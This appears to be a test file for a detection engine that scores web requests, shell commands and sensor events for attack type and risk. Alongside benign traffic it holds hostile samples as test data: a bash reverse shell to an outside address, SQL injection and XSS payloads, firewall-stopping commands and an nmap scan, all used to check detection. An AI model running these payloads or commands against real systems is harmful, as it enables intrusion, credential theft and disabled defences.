import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { placeOf, shapeOf } from '../../src/score/event-shape.ts';
import { openLocalScorer } from '../../src/score/local.ts';
import { isLogLine, requestOfLogLine } from '../../src/score/log-format.ts';
import { ask, bytes, command, draft, fileEvent, request } from '../support/score/events.ts';

const scorer = openLocalScorer({ onWarning: assert.fail });
const agent =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36';

describe('ordinary traffic', () => {
  const requests = [
    `GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${agent}\r\n\r\n`,
    `GET /style.css?v=12 HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${agent}\r\nReferer: http://shop.example/\r\n\r\n`,
    `GET /images/logo-80.png HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${agent}\r\n\r\n`,
    `POST /cart HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nitem=42&count=2`,
    'GET /articles/how-to-bake-bread/ HTTP/1.1',
    'lang=en',
    'page=2&sort=price',
    'GET /index.php?id=17 HTTP/1.1',
    'GET /store/view.php?item=331&ref=home HTTP/1.1',
    'GET /wp-includes/js/jquery/jquery.min.js?ver=3.7.1 HTTP/1.1',
    'POST /graphql HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\n\r\n{"query":"{ shelves { nodes { id label } } }"}',
    'POST /soap HTTP/1.1\r\nHost: shop.example\r\nContent-Type: text/xml\r\n\r\n<?xml version="1.0"?><note><to>Mara</to><text>Bread and milk</text></note>',
    'PUT /remote.php/dav/files/mara/shopping.md HTTP/1.1\r\nHost: cloud.example\r\n\r\n- bread',
    'Warning: mysqli_connect(): Connection refused in /srv/shop/basket.php on line 12',
    'whichever costs between 5 and 9 -- or less',
    'mara',
  ];
  for (const text of requests)
    it(`is left alone: ${text.slice(0, 40).replace(/\s+/g, ' ')}`, () => {
      const { risk_score, attack_type } = scorer.judge(ask(request(text)));
      assert.ok(risk_score <= 4, `${risk_score} ${attack_type}`);
      assert.equal(attack_type, 'Normal');
    });

  it('in an access log is read as the request that it tells of', () => {
    const line = (path: string) =>
      `198.51.100.4 - - [17/May/2026:10:05:03 +0000] "GET ${path} HTTP/1.1" 200 4877 "http://shop.example/" "${agent}"`;
    assert.equal(
      requestOfLogLine(line('/style.css')),
      `GET /style.css HTTP/1.1\r\nUser-Agent: ${agent}\r\n\r\n`,
    );
    assert.equal(requestOfLogLine('GET / HTTP/1.1'), null);
    const iis = (query: string): string =>
      `2026-05-17 10:05:03 W3SVC1 WEB-01 192.0.2.3 GET /item.aspx ${query} 80 - 198.51.100.4 ${agent.replaceAll(' ', '+')} 200 0 0`;
    assert.equal(requestOfLogLine(iis('id=1')), 'GET /item.aspx?id=1 HTTP/1.1\r\n\r\n');
    assert.ok(scorer.judge(ask(request(iis('id=1')))).risk_score <= 4);
    assert.ok(scorer.judge(ask(request(iis("id=1');declare%20@c%20cursor;exec(@c)--")))).risk_score >= 7);
    assert.ok(scorer.judge(ask(request(line('/style.css')))).risk_score <= 4);
    const attack = scorer.judge(
      ask(request(line("/item?id=1'%20UNION%20SELECT%20user,password%20FROM%20users--"))),
    );
    assert.ok(attack.risk_score >= 7);
    for (const { field, text } of attack.evidence)
      if (field === 'payload')
        assert.ok(line("/item?id=1'%20UNION%20SELECT%20user,password%20FROM%20users--").includes(text));
  });
});

describe('what administrators type elsewhere', () => {
  for (const line of [
    'git status',
    'ls -la',
    'uname -a',
    'docker compose up -d',
    'systemctl status nginx',
    'cat /etc/os-release',
    'which python3',
    'cd ~/work && ls',
    "head -n 40 visits.log | cut -d' ' -f2 | sort | uniq -c",
    'unheardof-tool --inventory hosts site.yml -v',
    'rm -f /tmp/*.bak',
  ])
    it(`is left alone: ${line}`, () => {
      const { attack_type, risk_score } = scorer.judge(ask(command(line, { service: 'workstation' })));
      assert.equal(attack_type, 'Normal', String(risk_score));
      const parameter = scorer.judge(ask(request(line)));
      assert.equal(parameter.attack_type, 'Normal', String(parameter.risk_score));
      const process = scorer.judge(ask(fileEvent('file.opened', {}, { cmdline: line })));
      assert.ok(!process.reasons.some((reason) => /attacker/i.test(reason)));
    });

  it('is not what attackers type, wherever they do', () => {
    const line = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';
    for (const event of [
      request(line),
      command(line),
      command(line, { service: 'workstation' }),
      bytes(line),
    ])
      assert.ok(scorer.judge(ask(event)).risk_score >= 7, event.service);
    const process = scorer.judge(ask(fileEvent('file.opened', {}, { cmdline: line })));
    assert.ok(process.risk_score >= 8);
    assert.ok(process.evidence.some(({ field }) => field === 'extra.cmdline'));
  });
});

describe('the form of a text', () => {
  it('follows from kind, service and text', () => {
    assert.equal(shapeOf(command('id')), 'shell');
    assert.equal(shapeOf(command('id', { service: 'workstation' })), 'bytes');
    assert.equal(shapeOf(command('GET /', { service: 'http' })), 'web');
    assert.equal(shapeOf(draft('payload.received', { service: 'redis', payload: 'INFO' })), 'query');
    assert.equal(shapeOf(draft('payload.received', { payload: '' })), 'connection');
    assert.equal(shapeOf(draft('client.identified', { payload: 'SSH-2.0-Go' })), 'quiet');
    assert.equal(placeOf('OpenSSH'), 'other');
  });

  it('is a log line’s where it begins as one', () => {
    assert.ok(isLogLine('Nov 25 08:00:01 gate sshd[71]: Server listening on 0.0.0.0 port 22.'));
    assert.ok(isLogLine('%ASA-4-401004: Shunned packet: 192.0.2.1'));
    assert.ok(!isLogLine('cat /var/log/syslog | grep Nov'));
    assert.ok(!isLogLine('GET /login HTTP/1.1'));
    assert.ok(
      scorer.judge(ask(command('Nov 25 08:00:01 gate sshd[71]: Server listening on 0.0.0.0'))).risk_score <=
        2,
    );
  });
});

describe('an encrypted connection', () => {
  const hello = String.raw`'\x16\x03\x01\x01|\x01\x00\x01x\x03\x03Y\xfe=\x1c\x90X\xf5 OR 1=1 --\xd8\x13`;
  const raw = "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc' OR 1=1 -- ";
  for (const [name, text] of Object.entries({ hello, raw }))
    it(`through a relay is a relay, whatever its random bytes spell (${name})`, () => {
      const { attack_type, reasons } = scorer.judge(ask(draft('tunnel.requested', { payload: text })));
      assert.equal(attack_type, 'LateralMovement');
      assert.ok(!reasons.some((reason) => reason.includes('looks like')), reasons.join(' '));
      assert.equal(scorer.judge(ask(bytes(text))).attack_type, 'Recon');
    });

  it('does not shield a request that begins like one', () => {
    const text = String.raw`\x16\x03\x01\x01|\x01\x00\x01' UNION SELECT password FROM users --`;
    assert.equal(scorer.judge(ask(request(text))).attack_type, 'SqlInjection');
  });

  it('does not shield plain text through a relay', () => {
    const payload = "GET /item?id=1' UNION SELECT password FROM users -- HTTP/1.1";
    assert.equal(scorer.judge(ask(draft('tunnel.requested', { payload }))).attack_type, 'SqlInjection');
  });
});

describe('a firewall that is stopped', () => {
  for (const text of ['service iptables stop', '/etc/init.d/iptables stop', 'systemctl stop iptables'])
    it(`is a defence switched off: ${text}`, () => {
      assert.ok(scorer.judge(ask(command(text))).techniques.includes('T1562.004'));
    });
});

describe('a sensor’s own words', () => {
  it('for a password that it cannot work out are no injection', () => {
    const { reasons } = scorer.judge(
      ask(draft('login.failed', { service: 'vnc', payload: ':<Password was not in the common list>' })),
    );
    assert.deepEqual(reasons, [
      'Somebody tried to sign in to a decoy; nobody has a legitimate reason to do so.',
    ]);
  });

  it('do not hide an attack beside them', () => {
    const payload = "admin' OR 1=1 -- :<Password was not in the common list>";
    assert.equal(
      scorer.judge(ask(draft('login.failed', { service: 'vnc', payload }))).attack_type,
      'SqlInjection',
    );
  });
});

describe('a confidence', () => {
  it('has at most four places', () => {
    const { confidence } = scorer.judge(ask(request('id=1 union select 1,2,3 from users--')));
    assert.equal(confidence, Number(confidence.toFixed(4)));
  });
});

describe('what forms and interfaces are full of', () => {
  for (const [name, text] of Object.entries({
    'a generated password': 'login=mara&password=%24q7%26Kd%21wP2&remember=on',
    'a call with hexadecimal data': `{"jsonrpc":"2.0","id":7,"method":"eth_call","params":[{"to":"0x${'5ab1'.repeat(10)}"},"latest"]}`,
    'documentation with code in it':
      'If you set `mode: true` in the options, it will call `table.close()` at the end.',
    'a part of a drawing': '<polygon points="410,220 398,224 398,215" style="fill:rgb(0,0,0)"/>',
    'a report over one table':
      'SELECT region, SUM(amount) AS total FROM sales GROUP BY region ORDER BY total',
  }))
    it(`is no attack: ${name}`, () => {
      assert.equal(scorer.judge(ask(request(text))).attack_type, 'Normal');
    });
});

describe('a word and a colon before something', () => {
  it('do not make a log line of what a web server was sent', () => {
    const { attack_type, risk_score } = scorer.judge(ask(request('data: <img src=x onerror=alert(1)>')));
    assert.equal(attack_type, 'CrossSiteScripting');
    assert.ok(risk_score >= 7);
  });
});

describe('a scanner', () => {
  const typed = (payload: string) => scorer.judge(ask(command(payload, { service: 'endpoint' })));
  it('that is started is probing', () => {
    assert.equal(typed('nmap -sV 198.51.100.0/24').attack_type, 'Recon');
  });
  it('whose package is only named is not', () => {
    assert.equal(typed('py3clean -p wfuzz').attack_type, 'Normal');
  });
});
